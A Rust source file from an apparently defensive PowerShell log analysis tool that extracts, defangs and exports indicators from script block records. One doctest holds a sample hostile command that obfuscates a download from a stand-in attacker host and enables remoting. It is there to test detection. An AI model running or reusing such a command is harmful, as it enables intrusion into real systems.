//! [`Session::indicators`], and exports of what was found.

use super::state::Session;
use crate::error::Error;
use crate::indicators::{IndicatorSet, TextIndex, TextIndicators, hash};
use crate::inventory::{BlockFilter, ScriptQuery, ScriptRow};
use crate::ordered::OrderedSet;
use crate::report::{
    self, ExportFormat, ExportOptions, Found, IndicatorList, IndicatorQuery, Report, Rows, Table,
    write_export, write_line,
};
use std::io::{self, Write};

impl Session {
    /// Returns the indicators of the script blocks that rules match, or with
    /// [`Options::indicators`](super::Options::indicators) of every one: URLs, hosts, addresses, hashes, paths …, of their
    /// texts and of their views. The first call after more was read collects them.
    ///
    /// ```
    /// use scriptscope::report::IndicatorQuery;
    /// use scriptscope::{Options, Session};
    ///
    /// let record = r#"{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"FS03",
    ///     "ScriptBlockId":"1","ScriptBlockText":"Enable-PSRemoting; iwr ('http://ev'+'il.net/a') -Proxy http://127.0.0.1"}"#;
    /// let mut session = Session::new(Options::default()).unwrap();
    /// session.begin("log.json").unwrap();
    /// session.push(record.as_bytes()).unwrap();
    /// session.end().unwrap();
    /// let list = session.indicators(&IndicatorQuery::default());
    /// let shown: Vec<_> = list.rows.iter().map(|row| (row.defanged.as_str(), row.view.as_str())).collect();
    /// assert_eq!(shown, [("hxxp://evil[.]net/a", "plain"), ("evil[.]net", "plain")]);
    /// assert_eq!(list.left_out["loopback"], 1);
    /// ```
    pub fn indicators(&mut self, query: &IndicatorQuery) -> IndicatorList {
        let of_block = self.of_block(query);
        IndicatorList::new(self.indicator_set(), query, of_block.as_ref())
    }

    /// Returns the indicators of the script blocks that pass a filter, counted in these, in a session with the option
    /// [`Options::inventory`](super::Options::inventory).
    ///
    /// ```
    /// use scriptscope::inventory::BlockFilter;
    /// use scriptscope::report::IndicatorQuery;
    /// use scriptscope::{Options, Session};
    ///
    /// let mut session = Session::new(Options::default().with_inventory(true)).unwrap();
    /// let filter = BlockFilter { levels: vec!["high".into()], ..BlockFilter::default() };
    /// let list = session.indicators_of_blocks(&IndicatorQuery::default(), &filter).unwrap();
    /// assert_eq!(list.total, 0);
    /// ```
    ///
    /// # Errors
    ///
    /// Those of [`Session::list_blocks`].
    pub fn indicators_of_blocks(
        &mut self,
        query: &IndicatorQuery,
        filter: &BlockFilter,
    ) -> Result<IndicatorList, Error> {
        if *filter == BlockFilter::default() {
            return Ok(self.indicators(query));
        }
        let of_block = self.of_block(query);
        let set = match self.filtered.take() {
            Some((known, set)) if known == *filter => set,
            _ => self.collect(Some(filter))?,
        };
        let list = IndicatorList::new(&set, query, of_block.as_ref());
        self.filtered = Some((filter.clone(), set));
        Ok(list)
    }

    /// Returns the hashes of the indicators of the script block that a query names.
    fn of_block(&mut self, query: &IndicatorQuery) -> Option<OrderedSet<u64>> {
        let text = self.text(query.filter.block.as_ref()?, None).unwrap_or_default();
        let texts = TextIndicators::new(&text, self.config.views);
        Some(texts.found.keys().map(|own| hash(own.kind, &own.value)).collect())
    }

    /// Writes what was found in a form of another program, or a table of it. The same for page, command line and libraries.
    ///
    /// ```
    /// use scriptscope::report::{ExportFormat, ExportOptions};
    /// use scriptscope::{Options, Session};
    ///
    /// let mut session = Session::new(Options::default()).unwrap();
    /// let mut layer = Vec::new();
    /// session.export(ExportFormat::Navigator, &ExportOptions::default(), &mut layer).unwrap();
    /// assert!(layer.starts_with(b"{\"name\":\"scriptscope\",\"versions\":"));
    /// ```
    ///
    /// # Errors
    ///
    /// Those of `to`; one for the table of scripts in a session without an inventory.
    pub fn export(
        &mut self,
        format: ExportFormat,
        options: &ExportOptions,
        to: &mut dyn Write,
    ) -> io::Result<()> {
        let report = self.report();
        self.export_of(&report, format, options, to)
    }

    /// Writes what [`Session::export`] does, of a report of this session that was made before.
    ///
    /// # Errors
    ///
    /// Those of `to`.
    pub fn export_of(
        &mut self,
        report: &Report,
        format: ExportFormat,
        options: &ExportOptions,
        to: &mut dyn Write,
    ) -> io::Result<()> {
        let is_table = matches!(format, ExportFormat::Csv | ExportFormat::Ndjson);
        if is_table && options.table == Table::Scripts {
            return self.export_scripts(format, options, to);
        }
        let ids = options.ids.iter().flatten().chain(&options.marked).map(String::as_str);
        let known: OrderedSet<&str> = report.results.iter().map(|row| row.id.as_str()).collect();
        let rows = self.marked_rows(ids.filter(|id| !known.contains(id)));
        let blocks: Vec<String> = rows.into_values().map(|row| row.id).collect();
        let mut options = options.clone();
        // A script is its earliest script block.
        options.ids.iter_mut().for_each(|ids| ids.extend_from_slice(&blocks));
        let texts = self.marked_texts(blocks.into_iter());
        let set = self.indicators_with(&texts.blocks);
        let list = IndicatorList::new(&set, &IndicatorQuery::default(), None);
        let found =
            Found { report, indicators: &list.rows, texts: &texts.blocks, missing: &texts.missing };
        write_export(&found, format, &options, to)
    }

    /// Writes the table of scripts.
    fn export_scripts(
        &mut self,
        format: ExportFormat,
        options: &ExportOptions,
        to: &mut dyn Write,
    ) -> io::Result<()> {
        let list = self.list_scripts(&ScriptQuery::default()).map_err(io::Error::other)?;
        let is_chosen = |row: &&ScriptRow| {
            options
                .ids
                .as_ref()
                .is_none_or(|ids| ids.iter().any(|id| *id == row.id || *id == row.sample_block_id))
        };
        let chosen = list.rows.iter().filter(is_chosen);
        if format == ExportFormat::Ndjson {
            return chosen.into_iter().try_for_each(|row| write_line(row, to));
        }
        let mut rows = Rows { to, result: Ok(()) };
        rows.header(&[
            "blocks",
            "computers",
            "users",
            "days",
            "firstTime",
            "lastTime",
            "score",
            "results",
            "length",
            "firstLine",
            "sampleBlockId",
            "id",
        ]);
        let text = |value: &Option<String>| value.clone().unwrap_or_default();
        for row in chosen {
            rows.row([
                row.blocks.to_string(),
                row.computers.to_string(),
                row.users.to_string(),
                row.days.to_string(),
                text(&row.first_time),
                text(&row.last_time),
                row.score.to_string(),
                row.results.to_string(),
                row.length.to_string(),
                text(&row.first_line),
                row.sample_block_id.clone(),
                row.id.clone(),
            ]);
        }
        rows.result
    }

    pub(super) fn indicator_set(&mut self) -> &IndicatorSet {
        if self.indicators.is_none() {
            // Without a filter nothing is refused.
            self.indicators = self.collect(None).ok();
        }
        self.indicators.get_or_insert_default()
    }

    /// Collects the indicators of the script blocks that pass a filter.
    fn collect(&mut self, filter: Option<&BlockFilter>) -> Result<IndicatorSet, Error> {
        let mut set = IndicatorSet::default();
        let mut chosen = None;
        if let Some(filter) = filter {
            let (listing, inventory, names) = self.listing()?;
            chosen = Some(listing.matched_ids(inventory, names, filter)?);
        }
        if self.config.indicators
            && let Ok((listing, inventory, names)) = self.listing()
        {
            let (ids, unread) = listing.add_indicators(inventory, names, filter, &mut set)?;
            chosen = Some(ids);
            set.unread = unread;
            set.lacks_texts = inventory.indicators.as_ref().is_some_and(TextIndex::is_limited);
        }
        let matched = self.store.matched_blocks(&self.rules).blocks;
        let views = self.config.views;
        report::collect_indicators(&mut set, &matched, chosen.as_ref(), &self.sources, views);
        Ok(set)
    }
}
